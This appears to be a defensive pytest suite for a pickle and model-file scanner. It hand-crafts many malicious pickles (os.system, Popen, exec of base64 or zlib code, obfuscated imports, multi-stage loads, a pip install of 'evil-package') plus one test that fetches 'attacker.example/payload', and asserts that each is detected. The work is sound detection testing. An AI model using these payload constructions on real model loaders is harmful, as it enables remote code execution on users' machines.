"""One regression test per attack technique; each payload would create a marker file."""

from __future__ import annotations

import base64
import io
import os
import pickle
import struct
import zlib
from pathlib import Path

import joblib
import numpy as np
import pytest
from factories import Reduce, assert_benign, assert_caught, describe, rules_found, scan, write
from joblib.numpy_pickle_compat import NDArrayWrapper, ZNDArrayWrapper, write_zfile
from payloads import b, glob0, marker, os_system, proto, py_code, s, shell

from mlgate import Severity

CRIT = Severity.CRITICAL




@pytest.mark.parametrize("protocol", range(6))
def test_reduce_os_system_every_protocol(tmp_path: Path, protocol: int) -> None:
    data = pickle.dumps(Reduce(os.system, shell("p")), protocol=protocol)
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG101", CRIT)
    assert shell("p") in describe(report)


@pytest.mark.parametrize("name", ["system", "popen", "execv"])
def test_posix_and_nt_aliases(tmp_path: Path, name: str) -> None:
    for module in ("posix", "nt"):
        report = scan(write(tmp_path / f"{module}.pkl", glob0(module, name) + b"(Vx\ntR."))
        assert_caught(report, "MLG101", CRIT)


def test_stack_global_from_memo(tmp_path: Path) -> None:
    from payloads import stack_global_memo

    report = scan(write(tmp_path / "m.pkl", stack_global_memo("memo")))
    assert_caught(report, "MLG101", CRIT)


def test_stack_global_names_computed_by_decoding(tmp_path: Path) -> None:
    # module = base64.b64decode(b'b3M=').decode(): the name never appears in the file.
    decode = (glob0("builtins", "getattr") + glob0("base64", "b64decode") + b(b"b3M=")
              + b"\x85R" + s("decode") + b"\x86R)R")
    data = proto(4) + decode + s("system") + b"\x93" + s(shell("computed")) + b"\x85R."
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG101", CRIT)


def test_stack_global_names_computed_by_concatenation(tmp_path: Path) -> None:
    module = glob0("operator", "add") + s("o") + s("s") + b"\x86R"
    data = proto(4) + module + s("system") + b"\x93" + s(shell("concat")) + b"\x85R."
    report = scan(write(tmp_path / "m.pkl", data))
    assert any("os.system" in f.message and f.severity is CRIT for f in report.findings), \
        describe(report)


def test_inst_opcode(tmp_path: Path) -> None:
    data = b"(V" + shell("inst").encode() + b"\nios\nsystem\n."
    assert_caught(scan(write(tmp_path / "m.pkl", data)), "MLG101", CRIT)


def test_obj_opcode(tmp_path: Path) -> None:
    data = proto(1) + b"(" + glob0("os", "system") + b"V" + shell("obj").encode() + b"\no."
    assert_caught(scan(write(tmp_path / "m.pkl", data)), "MLG101", CRIT)


def test_newobj_and_newobj_ex_popen(tmp_path: Path) -> None:
    popen = glob0("subprocess", "Popen")
    newobj = proto(2) + popen + s("id") + b"\x85\x81."
    newobj_ex = proto(4) + popen + s("id") + b"\x85}\x92."
    assert_caught(scan(write(tmp_path / "a.pkl", newobj)), "MLG101", CRIT)
    assert_caught(scan(write(tmp_path / "b.pkl", newobj_ex)), "MLG101", CRIT)


def test_build_overwrites_a_global(tmp_path: Path) -> None:
    # BUILD with a (None, slotstate) state on a module-level object monkey-patches it.
    data = proto(2) + glob0("torch", "nn") + b"N}" + s("Module") + s("x") + b"s\x86b."
    assert_caught(scan(write(tmp_path / "m.pkl", data)), "MLG104")


@pytest.mark.parametrize("opcode", [b"\x82\x01", b"\x83\x01\x00", b"\x84\x01\x00\x00\x00"])
def test_extension_registry_codes(tmp_path: Path, opcode: bytes) -> None:
    data = proto(2) + opcode + s("x") + b"\x85R."
    assert_caught(scan(write(tmp_path / "m.pkl", data)), "MLG107")


def test_second_concatenated_pickle_is_analysed(tmp_path: Path) -> None:
    data = pickle.dumps({"weights": [1, 2]}) + os_system("concat")
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG101", CRIT)


def test_data_after_stop(tmp_path: Path) -> None:
    report = scan(write(tmp_path / "m.pkl", pickle.dumps([1, 2]) + b"\xff\xfe not pickle"))
    assert "MLG203" in rules_found(report)


def test_broken_pickle_reports_calls_made_before_the_failure(tmp_path: Path) -> None:
    from payloads import broken_after_payload

    report = scan(write(tmp_path / "m.pkl", broken_after_payload("broken")))
    assert_caught(report, "MLG101", CRIT)
    assert "MLG201" in rules_found(report)


def test_truncated_after_payload(tmp_path: Path) -> None:
    data = os_system("trunc")[:-1] + b"(X\xff\xff\xff\x00abc"  # BINUNICODE longer than the file
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG101", CRIT)
    assert "MLG201" in rules_found(report)


@pytest.mark.parametrize("loader", [("pickle", "loads"), ("_pickle", "loads"),
                                    ("dill", "loads"), ("numpy", "loads"),
                                    ("cloudpickle", "loads")])
def test_nested_pickle_payload(tmp_path: Path, loader: tuple[str, str]) -> None:
    data = proto(2) + glob0(*loader) + b(os_system("nested")) + b"\x85R."
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG105", CRIT)
    assert_caught(report, "MLG101", CRIT)


def test_torch_load_of_embedded_bytes(tmp_path: Path) -> None:
    inner = os_system("torchload")
    data = (proto(2) + glob0("torch", "load") + glob0("io", "BytesIO") + b(inner)
            + b"\x85R\x85R.")
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG105", CRIT)


def test_storage_load_from_bytes_with_malicious_checkpoint(tmp_path: Path) -> None:
    import torch

    buf = io.BytesIO()
    torch.save({"x": Reduce(os.system, shell("lfb"))}, buf)
    data = proto(2) + glob0("torch.storage", "_load_from_bytes") + b(buf.getvalue()) + b"\x85R."
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG105", CRIT)


def test_getattr_import_module(tmp_path: Path) -> None:
    from payloads import getattr_import

    report = scan(write(tmp_path / "m.pkl", getattr_import("ga")))
    assert any("os.system" in f.message and f.severity is CRIT for f in report.findings), \
        describe(report)


def test_sys_modules_lookup(tmp_path: Path) -> None:
    data = (proto(2) + glob0("builtins", "getattr") + glob0("operator", "getitem")
            + glob0("sys", "modules") + s("os") + b"\x86R" + s("system") + b"\x86R"
            + s(shell("sysmod")) + b"\x85R.")
    report = scan(write(tmp_path / "m.pkl", data))
    assert any("os.system" in f.message and f.severity is CRIT for f in report.findings), \
        describe(report)


def test_builtins_import(tmp_path: Path) -> None:
    data = (proto(2) + glob0("builtins", "getattr") + glob0("builtins", "__import__") + s("os")
            + b"\x85R" + s("system") + b"\x86R" + s(shell("imp")) + b"\x85R.")
    report = scan(write(tmp_path / "m.pkl", data))
    assert any("os.system" in f.message for f in report.findings), describe(report)


def test_attrgetter_and_methodcaller(tmp_path: Path) -> None:
    module = glob0("importlib", "import_module") + s("os") + b"\x85R"
    attr = (proto(2) + glob0("_operator", "attrgetter") + s("system") + b"\x85R" + module
            + b"\x85R" + s(shell("ag")) + b"\x85R.")
    method = (proto(2) + glob0("operator", "methodcaller") + s("system") + s(shell("mc"))
              + b"\x86R" + module + b"\x85R.")
    for name, data in (("a", attr), ("m", method)):
        report = scan(write(tmp_path / f"{name}.pkl", data))
        assert_caught(report, at_least=CRIT)


def test_functools_partial(tmp_path: Path) -> None:
    data = (proto(2) + glob0("functools", "partial") + glob0("os", "system") + s(shell("part"))
            + b"\x86R)R.")
    report = scan(write(tmp_path / "m.pkl", data))
    assert any("os.system" in f.message and f.severity is CRIT for f in report.findings)


@pytest.mark.parametrize("codec", ["base64", "zlib", "hex"])
def test_exec_of_decoded_code(tmp_path: Path, codec: str) -> None:
    code = py_code("exec").encode()
    if codec == "base64":
        decoded = glob0("base64", "b64decode") + b(base64.b64encode(code)) + b"\x85R"
    elif codec == "zlib":
        decoded = glob0("zlib", "decompress") + b(zlib.compress(code)) + b"\x85R"
    else:
        decoded = glob0("binascii", "unhexlify") + b(code.hex().encode()) + b"\x85R"
    data = proto(2) + glob0("builtins", "exec") + decoded + b"\x85R."
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG106", CRIT)
    assert marker("exec") in describe(report)


def test_marshal_and_function_type(tmp_path: Path) -> None:
    data = (proto(2) + glob0("types", "FunctionType") + glob0("marshal", "loads")
            + b(b"\xe3fake code object") + b"\x85R" + b"}\x86R)R.")
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG108", CRIT)


def test_dill_and_cloudpickle_functions(tmp_path: Path) -> None:
    import cloudpickle
    import dill

    def payload() -> None:
        os.system(shell("dill"))

    for name, blob in (("d", dill.dumps(payload)), ("c", cloudpickle.dumps(lambda: payload()))):
        report = scan(write(tmp_path / f"{name}.pkl", blob))
        assert_caught(report, at_least=CRIT)


def test_pip_main_cve_2025_1716(tmp_path: Path) -> None:
    data = (proto(2) + glob0("pip._internal", "main") + b"]" + s("install") + b"a"
            + s("evil-package") + b"a\x85R.")
    assert_caught(scan(write(tmp_path / "m.pkl", data)), "MLG101", CRIT)


def test_numpy_runstring(tmp_path: Path) -> None:
    data = (proto(2) + glob0("numpy.testing._private.utils", "runstring") + s(py_code("rs"))
            + b"}\x86R.")
    assert_caught(scan(write(tmp_path / "m.pkl", data)), "MLG101", CRIT)


@pytest.mark.parametrize("target", [
    ("torch.hub", "load"), ("torch", "load"), ("keras.utils", "get_file"),
    ("pandas", "read_pickle"), ("torch.utils.cpp_extension", "load_inline"),
    ("asyncio.subprocess", "create_subprocess_shell"), ("webbrowser", "open"),
    ("requests", "get"), ("shutil", "rmtree"), ("socket", "create_connection"),
])
def test_dangerous_callables_inside_libraries(tmp_path: Path, target: tuple[str, str]) -> None:
    data = proto(2) + glob0(*target) + s("https://attacker.example/payload") + b"\x85R."
    assert_caught(scan(write(tmp_path / "m.pkl", data)))


def test_python2_names_are_mapped_like_the_loader(tmp_path: Path) -> None:
    # fix_imports maps commands.getoutput to subprocess.getoutput for protocols < 3.
    data = glob0("commands", "getoutput") + b"(V" + shell("py2").encode() + b"\ntR."
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG101", CRIT)
    assert "subprocess.getoutput" in describe(report)


def test_frame_shorter_than_its_content(tmp_path: Path) -> None:
    body = glob0("os", "system") + s(shell("frame")) + b"\x85R."
    data = proto(4) + b"\x95" + struct.pack("<Q", 3) + body
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG202")
    assert_caught(report, "MLG101", CRIT)


def test_frame_hiding_data_after_stop(tmp_path: Path) -> None:
    body = s("x") + b"." + b"junk hidden inside the frame"
    data = proto(4) + b"\x95" + struct.pack("<Q", len(body)) + body
    assert_caught(scan(write(tmp_path / "m.pkl", data)), "MLG202")


def test_unknown_global_is_medium(tmp_path: Path) -> None:
    data = proto(2) + glob0("mycompany.tools", "fetch") + s("x") + b"\x85R."
    report = scan(write(tmp_path / "m.pkl", data))
    assert rules_found(report) == {"MLG103"}
    assert report.max_severity is Severity.MEDIUM


def test_multi_stage_numpy_load_of_sibling_file(tmp_path: Path) -> None:
    import numpy as np

    np.save(tmp_path / "stage2.npy", np.array([Reduce(os.system, shell("stage2"))],
                                              dtype=object), allow_pickle=True)
    data = (proto(2) + glob0("numpy", "load") + s("stage2.npy") + b"}" + s("allow_pickle")
            + b"\x88s" + b"\x86R.")
    # numpy.load(path, {...}) - the second positional arg is the mmap mode; path is what counts.
    report = scan(write(tmp_path / "stage1.pkl", data))
    chained = [f for f in report.findings if f.rule_id == "MLG109"]
    assert chained and chained[0].severity is CRIT, describe(report)


def test_chained_load_of_missing_file(tmp_path: Path) -> None:
    data = proto(2) + glob0("pandas", "read_pickle") + s("/somewhere/else.pkl") + b"\x85R."
    report = scan(write(tmp_path / "m.pkl", data))
    assert_caught(report, "MLG109")


def test_deep_obfuscation_chain_still_resolves(tmp_path: Path) -> None:
    # getattr(getattr(builtins-module-via-import, '__import__')('os'), 'system')
    imp = (glob0("builtins", "getattr") + glob0("importlib", "import_module") + s("builtins")
           + b"\x85R" + s("__import__") + b"\x86R" + s("os") + b"\x85R")
    data = (proto(2) + glob0("builtins", "getattr") + imp + s("system") + b"\x86R"
            + s(shell("chain")) + b"\x85R.")
    report = scan(write(tmp_path / "m.pkl", data))
    assert any("os.system" in f.message for f in report.findings), describe(report)


@pytest.mark.parametrize("target", [
    # Submodules of denied modules (picklescan CVE-2025-10157 matched module names exactly).
    ("asyncio.base_subprocess", "BaseSubprocessTransport"),
    ("asyncio.unix_events", "_UnixSubprocessTransport"),
    ("subprocess", "_args_from_interpreter_flags"), ("os.path", "expanduser"),
    ("multiprocessing.util", "spawnv_passfds"), ("distutils.spawn", "spawn"),
    # Standard-library and library functions that run commands or code.
    ("uuid", "_get_command_stdout"), ("platform", "_syscmd_file"), ("imaplib", "IMAP4_stream"),
    ("_osx_support", "_read_output"), ("doctest", "debug_script"), ("idlelib.pyshell", "main"),
    ("mailcap", "findmatch"), ("ctypes.util", "find_library"), ("site", "addsitedir"),
    ("pkg_resources", "load_entry_point"), ("venv", "create"), ("copyreg", "add_extension"),
    ("torch.utils.bottleneck.__main__", "main"), ("torch.testing._internal.common_utils", "shell"),
    ("torch.serialization", "_load"), ("numpy.lib.format", "read_array"),
])
def test_gadget_corpus_is_at_least_high(tmp_path: Path, target: tuple[str, str]) -> None:
    data = proto(2) + glob0(*target) + s("id") + b"\x85R."
    assert_caught(scan(write(tmp_path / "m.pkl", data)))


def test_multi_stage_load_of_a_sibling_archive_member(tmp_path: Path) -> None:
    import zipfile

    stage1 = proto(2) + glob0("pandas", "read_pickle") + s("stage2.dat") + b"\x85R."
    path = tmp_path / "bundle.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("model/stage1.pkl", stage1)
        z.writestr("model/stage2.dat", os_system("sibling"))
    report = scan(path)
    chained = [f for f in report.findings if f.rule_id == "MLG109"]
    assert chained and chained[0].severity is CRIT, describe(report)
    assert "model/stage2.dat" in chained[0].message


# ---------------------------------------------------------------------- old joblib layouts
OLD_JOBLIB = b"sklearn.externals.joblib.numpy_pickle"


def _as_sklearn_externals(data: bytes, module: bytes) -> bytes:
    """Pickles written through ``sklearn.externals.joblib`` (scikit-learn < 0.23 vendored
    joblib) name joblib's classes under that path. That package no longer exists, so a real
    joblib dump at protocol 2 (GLOBAL opcodes: text, no frame lengths to fix) has its module
    name rewritten, which is the only difference."""
    old = b"c" + module + b"\n"
    assert old in data
    return data.replace(old, b"c" + OLD_JOBLIB + b"\n")


def test_old_joblib_path_array_bytes_are_not_read_as_opcodes(tmp_path: Path) -> None:
    # The array's raw bytes follow the wrapper's BUILD; read as opcodes (zeros: invalid),
    # they stopped the analysis before the call that follows them.
    buf = io.BytesIO()
    joblib.dump({"coef": np.zeros(64), "z": Reduce(os.system, shell("sk-joblib"))}, buf,
                protocol=2)
    data = _as_sklearn_externals(buf.getvalue(), b"joblib.numpy_pickle")
    report = scan(write(tmp_path / "model.pkl", data))
    assert_caught(report, "MLG101", CRIT)
    assert "MLG201" not in rules_found(report), describe(report)


def test_old_joblib_path_honest_dump_is_complete(tmp_path: Path) -> None:
    buf = io.BytesIO()
    joblib.dump({"coef": np.arange(100.0), "classes": np.array([0, 1])}, buf, protocol=2)
    data = _as_sklearn_externals(buf.getvalue(), b"joblib.numpy_pickle")
    report = scan(write(tmp_path / "model.pkl", data))
    assert_benign(report)
    assert "MLG201" not in rules_found(report), describe(report)  # followed to its STOP


def _nd_wrapper_dump(folder: Path, side_array: np.ndarray, old_path: bool = False) -> Path:
    """What joblib < 0.10's NumpyPickler wrote for an array: the array saved with np.save to
    ``<name>_01.npy`` next to the pickle, and an NDArrayWrapper naming that file in it."""
    main = folder / "model.pkl"
    np.save(folder / "model.pkl_01.npy", side_array, allow_pickle=True)
    wrapper = NDArrayWrapper("model.pkl_01.npy", np.ndarray)
    data = pickle.dumps({"coef": wrapper}, protocol=2)
    if old_path:
        data = _as_sklearn_externals(data, b"joblib.numpy_pickle_compat")
    main.write_bytes(data)
    return main


@pytest.mark.parametrize("old_path", [False, True])
def test_joblib_side_file_honest(tmp_path: Path, old_path: bool) -> None:
    main = _nd_wrapper_dump(tmp_path, np.arange(5.0), old_path)
    if not old_path:  # a real joblib file, in its old format
        with pytest.warns(DeprecationWarning, match="less than 0.10"):
            assert joblib.load(main)["coef"].tolist() == [0.0, 1.0, 2.0, 3.0, 4.0]
    report = scan(main)
    assert_benign(report)
    assert any("model.pkl_01.npy" in f.message for f in report.findings), describe(report)


@pytest.mark.parametrize("old_path", [False, True])
def test_joblib_side_file_object_array_payload(tmp_path: Path, old_path: bool) -> None:
    # numpy.load(allow_pickle=True) unpickles an object array: the payload is in the side
    # file, which only the wrapper in the scanned pickle names.
    payload = np.array([Reduce(os.system, shell("ndwrapper"))], dtype=object)
    main = _nd_wrapper_dump(tmp_path, payload, old_path)
    report = scan(main)
    assert_caught(report, "MLG101", CRIT)


def test_joblib_side_file_missing_is_not_complete(tmp_path: Path) -> None:
    main = _nd_wrapper_dump(tmp_path, np.arange(5.0))
    (tmp_path / "model.pkl_01.npy").unlink()
    report = scan(main)
    assert_caught(report, "MLG109")
    assert not all(a.complete for a in report.artifacts)


def _zfile(path: Path, data: bytes) -> Path:
    with path.open("wb") as f:
        write_zfile(f, data)
    return path


def test_joblib_zfile_honest_with_compressed_side_file(tmp_path: Path) -> None:
    # joblib < 0.10 with compress=True: the pickle in a "ZF" container, each array's raw
    # bytes in a ZF side file that a ZNDArrayWrapper names (numpy_pickle_compat.py).
    arr = np.arange(6.0)
    _, init_args, state = arr.__reduce__()
    _zfile(tmp_path / "model.pkl_01.npy.z", arr.tobytes())
    wrapper = ZNDArrayWrapper("model.pkl_01.npy.z", init_args, state[:-1])
    main = _zfile(tmp_path / "model.pkl", pickle.dumps({"coef": wrapper}, protocol=2))
    with pytest.warns(DeprecationWarning, match="less than 0.10"):  # a real joblib file
        assert joblib.load(main)["coef"].tolist() == arr.tolist()
    report = scan(main)
    assert_benign(report)
    assert any("model.pkl_01.npy.z" in f.message for f in report.findings), describe(report)


def test_joblib_zfile_payload(tmp_path: Path) -> None:
    # Read as a pickle, "ZF" is no opcode: the file was reported unrecognised (INFO).
    main = _zfile(tmp_path / "model.pkl", pickle.dumps(Reduce(os.system, shell("zfile")), 2))
    assert_caught(scan(main), "MLG101", CRIT)


def test_joblib_wrapper_mlgate_cannot_size_is_not_complete(tmp_path: Path) -> None:
    # joblib reads the array bytes whatever the state says; mlgate cannot tell how many,
    # so what follows cannot be read as opcodes and the file is not called analysed.
    wrapper = proto(2) + glob0("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}b"
    report = scan(write(tmp_path / "m.joblib", wrapper + b"\x00" * 64 + os_system("unsized")))
    assert_caught(report, "MLG302")
    assert not all(a.complete for a in report.artifacts)
